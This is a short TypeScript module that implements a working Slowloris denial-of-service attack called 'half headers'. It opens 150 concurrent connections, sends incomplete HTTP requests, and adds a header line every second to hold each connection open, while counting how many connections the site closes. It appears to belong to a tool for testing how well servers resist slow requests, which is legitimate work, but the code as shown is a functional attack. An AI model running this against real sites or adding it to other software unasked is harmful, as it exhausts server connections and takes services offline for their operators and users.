import { type Attack, held, open, repeat } from './attack.ts';

const HOLD_MS = 20_000;

/** Begins a request and never ends it: a header line a second (Slowloris). */
export const halfHeaders: Attack = {
  name: 'half headers',
  async run(target, signal) {
    const deeds = { done: 0, closedByTheSite: 0 };
    await repeat({ atOnce: 150, pauseMs: 200 }, signal, async () => {
      const socket = await open(target);
      socket.resume().write('GET / HTTP/1.1\r\nHost: goldbraun.example\r\n');
      const timer = setInterval(() => socket.write(`X-${Date.now()}: 1\r\n`), 1_000);
      deeds.done += 1;
      if ((await held(socket, HOLD_MS, signal)) === 'closed') deeds.closedByTheSite += 1;
      clearInterval(timer);
    });
    return deeds;
  },
};
